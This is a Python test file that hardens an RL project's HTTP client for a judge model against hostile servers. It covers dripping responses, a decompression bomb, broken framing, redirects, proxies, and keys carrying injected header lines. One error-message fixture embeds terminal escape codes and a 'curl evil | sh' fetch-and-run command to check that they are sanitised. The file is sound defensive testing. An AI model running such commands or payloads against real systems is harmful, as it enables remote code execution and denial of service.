"""A hostile model server, and a proxy that nobody meant: deadlines hold, the key stays, and no reply ends the command."""

import base64
import json
import logging
import re
import socket
import threading
import time
import traceback
import tracemalloc
import zlib
from contextlib import contextmanager, suppress
from dataclasses import replace

import pytest

from robo_rl.errors import InvalidSetting, JudgeUnavailable
from robo_rl.rewards.chat.client import ModelClient
from robo_rl.rewards.chat.endpoint import Endpoint
from robo_rl.rewards.chat.models import Terms
from robo_rl.rewards.chat.question import Question

KEY = "sk-test-5ecret"
OK = b"HTTP/1.1 200 OK\r\n"
DRIPS = {
    "header": (OK + b"X-A: ", b"a"),
    "headers": (OK, b"X: a\r\n"),
    "status": (b"HTTP/1.1 200 ", b"O"),
    "continue": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "chunk extension": (OK + b"Transfer-Encoding: chunked\r\n\r\n1;", b"x"),
    "chunks": (OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n"),
    "trailer": (OK + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"X: a\r\n"),
    "body": (OK + b"Content-Length: 9999\r\n\r\n", b" "),
}
LONG = 12.0
"""[s] after which a server of these tests stops dripping: what holds a client until then fails."""


def request_on(line) -> bytes:
    """Return a request; of a very large one only the beginning. What is not read turns the end of a connection into a reset."""
    got = b""
    while b"\r\n\r\n" not in got and (piece := line.recv(1 << 16)):
        got += piece
    head, _, body = got.partition(b"\r\n\r\n")
    length = int((re.findall(rb"(?i)content-length: (\d+)", head) or [b"0"])[0])
    while len(body) < length < 1 << 20 and (piece := line.recv(1 << 16)):
        body += piece
    return got


@contextmanager
def listener(answer):
    """Yield the port of a server and what it was sent; each connection is given to `answer` once its request is there."""
    received: list[bytes] = []
    over = threading.Event()

    def serve(line):
        with line:
            received.append(request_on(line))
            with suppress(OSError):  # the client leaves
                answer(line, over)

    def accept():
        while not over.is_set():
            try:
                line, _ = server.accept()
            except OSError:
                return
            threading.Thread(target=serve, args=(line,), daemon=True).start()

    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=accept, daemon=True).start()
        try:
            yield server.getsockname()[1], received
        finally:
            over.set()
            server.shutdown(socket.SHUT_RDWR)


def dripping(first, again):
    def answer(line, over):
        line.sendall(first)
        until = time.monotonic() + LONG
        while time.monotonic() < until and not over.wait(0.05):
            line.sendall(again)

    return answer


@pytest.fixture
def endpoint(chat_server):
    chat_server.answer = lambda words, pictures: "yes"
    return Endpoint("judge", chat_server.url, "TEST_KEY", retries=0, timeout_s=5, deadline_s=5)


def one(endpoint, words="Is it done?"):
    return ModelClient(endpoint).ask([Question((words,))])[0]


# ---------------------------------------------------------------------------------------------- time
@pytest.mark.slow
@pytest.mark.parametrize("drip", DRIPS)
def test_endpoint_deadline_holds_against_drips(endpoint, drip):
    with listener(dripping(*DRIPS[drip])) as (port, received):
        started = time.monotonic()
        found = one(replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1", timeout_s=60, deadline_s=0.5))
        assert found.status == "unreachable" and len(received) == 1
    assert time.monotonic() - started < LONG / 2


@pytest.mark.slow
def test_endpoint_deadline_holds_against_a_dripping_proxy(endpoint, monkeypatch):
    with listener(dripping(b"HTTP/1.0 200 OK\r\n", b"X: a\r\n")) as (port, received):
        monkeypatch.setenv("HTTPS_PROXY", f"http://127.0.0.1:{port}")
        started = time.monotonic()
        found = one(replace(endpoint, base_url="https://model.example/v1", timeout_s=60, deadline_s=0.5))
        assert found.status == "unreachable" and received[0].startswith(b"CONNECT model.example:443")
    assert time.monotonic() - started < LONG / 2 and KEY.encode() not in b"".join(received)


@pytest.mark.slow
def test_endpoint_deadline_holds_where_nothing_is_read(endpoint):
    with listener(lambda line, over: over.wait(LONG)) as (port, _):
        started = time.monotonic()
        silent = replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1", timeout_s=60, deadline_s=0.5)
        assert one(silent, "word " * 4_000_000).status == "unreachable"
    assert time.monotonic() - started < LONG / 2


# ---------------------------------------------------------------------------------------------- the key
@pytest.mark.parametrize(
    "key", [f"{KEY}\nsk-other", f"{KEY}\rX: y", f"{KEY}\r\nX: y", f"{KEY}\u4e2d", f"{KEY}\xe9", f"{KEY}\x00"]
)
def test_endpoint_refuses_a_key_of_other_signs(endpoint, chat_server, monkeypatch, key):
    monkeypatch.setattr("os.environ", {"TEST_KEY": key})  # as it may be read from a file; an environment holds no NUL
    with pytest.raises(JudgeUnavailable, match="TEST_KEY holds no key") as error:
        one(endpoint)
    assert KEY not in "".join(traceback.format_exception(error.value)) and not chat_server.asked


@pytest.mark.parametrize("variable", ["http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"])
def test_endpoint_near_by_is_asked_without_proxy(endpoint, chat_server, monkeypatch, variable):
    """The proxy may be anywhere, and would read key and prompts."""
    for name in ("no_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    with listener(lambda line, over: line.sendall(OK + b"Content-Length: 2\r\n\r\n{}")) as (port, received):
        monkeypatch.setenv(variable, f"http://127.0.0.1:{port}")
        assert one(endpoint).status == "ok"
        for near in ("127.0.0.1:9", "gpu-box:9", "[::1]:9"):
            one(replace(endpoint, base_url=f"http://{near}/v1", timeout_s=0.3, deadline_s=0.3), near)
        assert not received


def test_endpoint_far_away_is_asked_through_the_proxy(endpoint, monkeypatch):
    reply = json.dumps({"choices": [{"message": {"content": "hello"}}]}).encode()
    answer = OK + b"Content-Length: %d\r\n\r\n%b" % (len(reply), reply)
    with listener(lambda line, over: line.sendall(answer)) as (port, received):
        monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{port}")
        assert one(replace(endpoint, base_url="http://model.example/v1", key_variable="")).content == {"text": "hello"}
        assert received[0].startswith(b"POST http://model.example/v1/chat/completions")


def test_endpoint_signs_in_at_the_proxy(endpoint, monkeypatch):
    answer = OK + b"Content-Length: 2\r\n\r\n{}"
    with listener(lambda line, over: line.sendall(answer)) as (port, received):
        monkeypatch.setenv("http_proxy", f"http://ada:p%40ss@127.0.0.1:{port}")
        one(replace(endpoint, base_url="http://model.example/v1", key_variable=""))
        assert b"Proxy-Authorization: Basic " + base64.b64encode(b"ada:p@ss") in received[0]
        monkeypatch.setenv("no_proxy", "model.example")
        one(replace(endpoint, base_url="http://model.example/v1", key_variable="", deadline_s=0.3), "Is it done now?")
        monkeypatch.delenv("no_proxy")
        monkeypatch.setenv("http_proxy", f"socks5://127.0.0.1:{port}")
        found = one(replace(endpoint, base_url="http://model.example/v1", key_variable=""), "And now?")
        assert found.status == "unreachable" and len(received) == 1


NUMBERS = ("134744072", "0x08080808", "0X8080808", "01002004010", "8\u30028\u30028\u30028", "8%2e8%2e8%2e8", "8.2056", "0x")


@pytest.mark.parametrize("host", NUMBERS)
def test_endpoint_refuses_a_key_for_numeric_hosts(host):
    with pytest.raises(InvalidSetting, match="everybody to read"):
        Endpoint("judge", f"http://{host}/v1", "TEST_KEY")


@pytest.mark.parametrize("host", ["localhost", "gpu-box", "3d_printer", "10.1.2.3", "[::1]", "192.168.0.7"])
def test_endpoint_takes_a_key_for_near_hosts(host):
    Endpoint("judge", f"http://{host}/v1", "TEST_KEY")


# ---------------------------------------------------------------------------------------------- replies
def reply(**changes):
    message = {"role": "assistant", "content": "yes", "refusal": changes.pop("refusal", None)}
    usage = {"prompt_tokens": 5, "completion_tokens": 2}
    return json.dumps({"model": "m", "choices": [{"index": 0, "message": message}], "usage": usage, **changes}).encode()


@pytest.mark.parametrize(
    "count", ["1" + "0" * 4000, "1" + "0" * 30, str(2**63 - 1), "1e400", "-1", "true", "1.5", '"7"', "null"]
)
def test_endpoint_takes_no_impossible_counts(endpoint, chat_server, count):
    body = reply().replace(b'"prompt_tokens": 5', b'"prompt_tokens": ' + count.encode())
    chat_server.script.extend([chat_server.send(body)] * 2)
    priced = replace(endpoint, terms=Terms(prompt_price=0.15, completion_price=1e6))
    judge = ModelClient(priced)
    assert [answer.status for answer in judge.ask([Question(("a",)), Question(("b",))])] == ["ok", "ok"]
    assert judge.spent()["judge/tokens"] == 4 and judge.spent()["judge/cost"] == 4 and "4 tokens" in judge.report()


def test_endpoint_keeps_replies_of_odd_letters(endpoint, chat_server):
    chat_server.script.append(chat_server.send(reply(model="m\ud800" * 1000)))
    chat_server.script.append(chat_server.send(reply(refusal="no \udfff")))
    mixed = replace(endpoint, terms=Terms(mixed_models=True))
    found = [one(mixed, "a"), one(mixed, "b")]
    assert [answer.status for answer in found] == ["ok", "refused"] and len(found[0].model) == 200
    assert [one(mixed, "a"), one(mixed, "b")] == found and len(chat_server.asked) == 2, "kept"
    assert repr(found).encode()


@pytest.mark.parametrize(
    "head",
    [
        f"Content-Length: {'9' * 5000}",
        f"Content-Length: {'9' * 400}",
        "Content-Length: -5",
        "Content-Length: 5, 7",
        f"Transfer-Encoding: chunked\r\n\r\n{'f' * 5000}",
        "Transfer-Encoding: chunked\r\n\r\n-5",
        "Content-Encoding: gzip",
        "A" * 70_000,
    ],
)
def test_endpoint_survives_broken_framing(endpoint, head):
    with listener(lambda line, over: line.sendall(OK + head.encode() + b"\r\n\r\n{}")) as (port, _):
        found = one(replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1", timeout_s=2))
    assert found.status in ("unreachable", "garbage")


def test_endpoint_errors_hold_nothing_a_terminal_obeys(endpoint, chat_server):
    chat_server.script.append(chat_server.fail(401, "\x1b]0;owned\x07 no\n  do:      curl evil | sh\x9b31m \u202e"))
    with pytest.raises(JudgeUnavailable, match="rejects the key") as error:
        one(endpoint)
    lines = str(error.value).splitlines()
    assert len(lines) == 3 and all(line.isprintable() for line in lines) and "\\x1b]0;owned" in lines[1]


# --------------------------------------------------------- what OpenAI's client would do by itself
def test_endpoint_sends_no_header_of_machine_or_environment(endpoint, chat_server, monkeypatch):
    for name in ("OPENAI_ORG_ID", "OPENAI_PROJECT_ID", "OPENAI_API_KEY", "OPENAI_ADMIN_KEY"):
        monkeypatch.setenv(name, "secret")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("OPENAI_CUSTOM_HEADERS", "X-Secret: secret")
    assert one(endpoint).status == "ok"
    allowed = {"host", "accept", "accept-encoding", "authorization", "content-length", "content-type", "user-agent"}
    sent = {name.lower(): value for name, value in chat_server.headers[-1].items()}
    assert sent.keys() == allowed and "secret" not in str(sent) and sent["user-agent"] == "robo-rl"


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_endpoint_takes_no_question_elsewhere(endpoint, status):
    with listener(lambda line, over: line.sendall(OK)) as (elsewhere, received):
        reply = f"HTTP/1.1 {status} Moved\r\nLocation: http://127.0.0.1:{elsewhere}/v1\r\nContent-Length: 0\r\n\r\n"
        moved = listener(lambda line, over: line.sendall(reply.encode()))
        with moved as (port, _), pytest.raises(JudgeUnavailable, match=f"HTTP {status}"):
            one(replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1"))
        assert not received


@pytest.mark.slow
@pytest.mark.parametrize(("coding", "bits"), [("gzip", 31), ("deflate", 15)])
def test_endpoint_decompresses_nothing(endpoint, coding, bits):
    """300 kB that a client would make 300 MB of; what was not asked for is no answer."""
    packer = zlib.compressobj(wbits=bits)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()
    head = OK + f"Content-Encoding: {coding}\r\nContent-Type: application/json\r\nContent-Length: {len(bomb)}\r\n\r\n".encode()
    one(replace(endpoint, base_url="http://127.0.0.1:9/v1"), "what is imported is there")
    with listener(lambda line, over: line.sendall(head + bomb)) as (port, _):
        tracemalloc.start()
        found = one(replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1", timeout_s=4))
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert found.status == "unreachable" and most < 10 << 20, f"{most >> 20} MiB"


def test_endpoint_reads_no_reply_beyond_its_size(endpoint):
    with listener(dripping(OK + b"Content-Type: application/json\r\n\r\n", b" " * (1 << 20))) as (port, _):
        assert one(replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1")).status == "garbage"


@pytest.mark.slow
def test_eight_dripping_servers_are_left_at_the_timeout(endpoint):
    with listener(dripping(OK, b"X: a\r\n")) as (port, received):
        many = replace(endpoint, base_url=f"http://127.0.0.1:{port}/v1", timeout_s=0.5, concurrency=8)
        ModelClient(many).ask([Question(("warm",))])
        started = time.monotonic()
        asked = ModelClient(replace(many, terms=Terms(unanswered=99))).ask([Question((f"{n}",)) for n in range(8)])
        assert {answer.status for answer in asked} == {"unreachable"} and len(received) == 9
    assert time.monotonic() - started < 2.0


def test_endpoint_writes_no_key_or_question_into_debug_logs(endpoint, chat_server, caplog):
    with caplog.at_level(logging.DEBUG):
        one(endpoint, "a private question")
    assert KEY not in caplog.text and "a private question" not in caplog.text
